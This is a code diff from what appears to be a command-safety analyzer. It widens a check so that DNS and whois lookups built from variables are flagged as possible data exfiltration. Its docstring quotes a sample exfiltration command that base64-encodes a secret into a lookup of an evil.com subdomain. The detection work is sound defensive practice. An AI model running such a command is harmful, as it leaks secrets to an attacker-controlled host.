@@ -163,7 +163,7 @@ def lookup(cmd: SimpleCommand, out: Out) -> None:
     Data computed at run time in a lookup (``dig $(base64 < secret).evil.com``) or a chosen
     server and port (``whois -h host -p port DATA``) turns a lookup into a way to send data out.
     """
-    if any(w.substituted for w in cmd.args):
+    if any(w.substituted or w.variables for w in cmd.args):
         out.high(Code.NETWORK_TRANSFER, f"{cmd.program} sends data computed at run time over "
                  "the network", target=cmd.program)
         return
